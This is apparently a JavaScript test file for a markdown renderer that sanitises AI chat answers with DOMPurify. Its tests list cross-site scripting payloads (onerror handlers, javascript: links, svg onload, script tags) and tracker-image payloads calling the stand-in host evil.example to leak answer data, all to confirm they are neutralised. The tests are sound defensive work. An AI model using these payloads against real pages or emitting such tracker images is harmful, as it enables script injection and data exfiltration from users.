import assert from 'node:assert/strict';
import { test } from 'node:test';
import createDOMPurify from 'dompurify';
import hljs from 'highlight.js';
import { JSDOM } from 'jsdom';
import { Marked } from 'marked';
import { createMarkdownRenderer, escapeHtml } from '../../src/js/markdown.js';

const { window } = new JSDOM('');
const render = createMarkdownRenderer({ Marked, purify: createDOMPurify(window), hljs });

function dom(html) {
  const container = window.document.createElement('div');
  container.innerHTML = html;
  return container;
}

function assertInert(html) {
  const root = dom(html);
  for (const node of root.querySelectorAll('*')) {
    for (const attribute of node.attributes) {
      assert.ok(!attribute.name.startsWith('on'), `event handler ${attribute.name} on <${node.tagName}> in ${html}`);
      assert.ok(!/^\s*(javascript|vbscript|data:text\/html)/i.test(attribute.value),
        `${attribute.name}="${attribute.value}" on <${node.tagName}> in ${html}`);
    }
  }
  assert.equal(root.querySelectorAll('script, iframe, object, embed, style, form, input, button').length, 0, html);
}

test('markdown becomes HTML: emphasis, lists, tables, inline code', () => {
  const root = dom(render('**太字** and `code`\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |'));
  assert.equal(root.querySelector('strong').textContent, '太字');
  assert.equal(root.querySelector('code').textContent, 'code');
  assert.equal(root.querySelectorAll('li').length, 2);
  assert.equal(root.querySelectorAll('td').length, 2);
});

test('event handlers, scripts and javascript: links in an answer are removed', () => {
  const attacks = [
    '<img src=x onerror=alert(1)>',
    '[click me](javascript:alert(1))',
    '<a href="javascript:alert(1)">click</a>',
    '<a href=" JaVaScRiPt:alert(1)">click</a>',
    '<script>alert(1)</script>',
    '<svg><script>alert(1)</script></svg>',
    '<svg onload=alert(1)></svg>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<details open ontoggle=alert(1)>x</details>',
    '<form action="javascript:alert(1)"><button>go</button></form>',
    '<style>body{display:none}</style>',
    '![x](javascript:alert(1))',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  ];
  for (const attack of attacks) {
    assertInert(render(attack));
    assertInert(render(`text before\n\n${attack}\n\ntext after`));
  }
  const image = dom(render('<img src=x onerror=alert(1)>')).querySelector('img');
  assert.ok(image, 'the image itself stays, without its handler');
  assert.equal(image.getAttribute('onerror'), null);
});

test('images from other origins are not loaded; data: images and this origin\'s are', () => {
  const remote = [
    '![tracker](https://evil.example/p.png?answer=secret)',
    '<img src="http://evil.example/p.png">',
    '<img src="//evil.example/p.png">',
    '<img src="/\\evil.example/p.png">',
    '<img src=" HTTPS://evil.example/p.png">',
    '<img src="ht\ttps://evil.example/p.png">',
    '<img src="/assets/img/favicon.svg" srcset="https://evil.example/p.png 2x">',
    '<p style="background: url(https://evil.example/p.png)">x</p>',
  ];
  for (const html of remote) {
    const root = dom(render(html));
    for (const node of root.querySelectorAll('*')) {
      for (const attribute of node.attributes) {
        assert.ok(!/evil\.example/.test(attribute.value), `${attribute.name}="${attribute.value}" from ${html}`);
      }
    }
  }
  assert.equal(dom(render('![alt text](https://evil.example/p.png)')).querySelector('img').getAttribute('alt'),
    'alt text', 'the image stays as its alt text');

  const local = dom(render('![icon](/assets/img/favicon.svg) ![dot](data:image/png;base64,iVBORw0KGgo=)'));
  assert.deepEqual([...local.querySelectorAll('img')].map((image) => image.getAttribute('src')),
    ['/assets/img/favicon.svg', 'data:image/png;base64,iVBORw0KGgo=']);
});

test('links open in a new tab without access to the page', () => {
  const link = dom(render('[LLM-jp](https://llm-jp.nii.ac.jp/)')).querySelector('a');
  assert.equal(link.getAttribute('href'), 'https://llm-jp.nii.ac.jp/');
  assert.equal(link.getAttribute('target'), '_blank');
  assert.match(link.getAttribute('rel'), /noopener/);
  assert.match(link.getAttribute('rel'), /noreferrer/);
});

test('code blocks are highlighted for a known language and escaped for an unknown one', () => {
  const java = dom(render('```java\nint x = 1; // 一\n```')).querySelector('pre code');
  assert.equal(java.dataset.language, 'java');
  assert.ok(java.querySelector('span.hljs-keyword, span.hljs-type'), java.innerHTML);
  assert.equal(java.textContent, 'int x = 1; // 一');

  const unknown = dom(render('```klingon\n<img src=x onerror=alert(1)>\n```')).querySelector('pre code');
  assert.equal(unknown.dataset.language, 'text');
  assert.equal(unknown.textContent, '<img src=x onerror=alert(1)>');
  assert.equal(unknown.querySelector('img'), null);
});

test('a half-streamed answer (an open code fence) still renders', () => {
  const root = dom(render('Here:\n\n```python\nprint("途中'));
  assert.equal(root.querySelector('pre code').textContent, 'print("途中');
});

test('escapeHtml escapes the five HTML characters', () => {
  assert.equal(escapeHtml(`<a href="x">'&'</a>`), '&lt;a href=&quot;x&quot;&gt;&#39;&amp;&#39;&lt;/a&gt;');
});
